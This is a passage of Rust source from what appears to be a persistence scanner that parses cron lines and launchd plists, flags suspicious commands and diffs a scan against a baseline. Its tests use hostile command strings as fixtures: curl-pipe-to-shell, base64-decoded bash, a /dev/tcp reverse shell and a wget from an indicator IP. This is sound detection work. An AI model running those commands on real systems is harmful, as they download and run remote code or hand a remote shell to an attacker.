                    .filter_map(|s| s.split("</string>").next())
                    .map(str::to_owned)
                    .collect()
            })
            .unwrap_or_default()
    };
    let args = strings("<key>ProgramArguments</key>");
    if !args.is_empty() {
        return args.join(" ");
    }
    strings("<key>Program</key>")
        .into_iter()
        .next()
        .unwrap_or_default()
}

/// Compares a run with a saved baseline.
pub fn diff(now: &[Item], base: &[Item]) -> Diff {
    let b: BTreeMap<String, &Item> = base.iter().map(|i| (i.key(), i)).collect();
    let n: BTreeMap<String, &Item> = now.iter().map(|i| (i.key(), i)).collect();
    let mut d = Diff::default();
    for (k, i) in &n {
        match b.get(k) {
            None => d.added.push((*i).clone()),
            Some(old) if old.sha256 != i.sha256 || old.mode != i.mode || old.owner != i.owner => {
                d.changed.push((*i).clone())
            }
            _ => {}
        }
    }
    for (k, i) in &b {
        if !n.contains_key(k) {
            d.removed.push((*i).clone());
        }
    }
    d
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn cron_lines() {
        assert_eq!(
            parse_cron_line("*/5 * * * * root /usr/bin/x --y", true),
            Some((
                "*/5 * * * *".into(),
                Some("root".into()),
                "/usr/bin/x --y".into()
            ))
        );
        assert_eq!(
            parse_cron_line("@reboot /tmp/.x", false),
            Some(("@reboot".into(), None, "/tmp/.x".into()))
        );
        assert_eq!(parse_cron_line("SHELL=/bin/sh", true), None);
    }

    #[test]
    fn flags() {
        assert_eq!(
            text_flags("curl -fsSL http://x/i.sh | sh"),
            ["download_exec"]
        );
        assert!(text_flags("echo aGk= | base64 -d | bash").contains(&"base64_decode"));
        assert!(text_flags("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1").contains(&"reverse_shell"));
        assert!(text_flags("/tmp/.x/run").contains(&"runs_from_tmp"));
        assert!(text_flags("/home/u/.hidden/run").contains(&"runs_from_tmp"));
        assert!(text_flags("/usr/bin/node /home/u/.local/lib/openclaw.mjs gateway").is_empty());
        assert!(text_flags("wget http://91.92.242.30/x").contains(&"ioc"));
    }

    #[test]
    fn plist() {
        let p = "<plist><dict><key>Label</key><string>x</string><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl x|sh</string></array></dict></plist>";
        assert_eq!(plist_program(p), "/bin/sh -c curl x|sh");
    }

    proptest! {
        #[test]
        fn parsers_never_panic(s in "\\PC{0,200}") {
            let _ = parse_cron_line(&s, true);
            let _ = text_flags(&s);
            let _ = plist_program(&s);
        }
    }
}
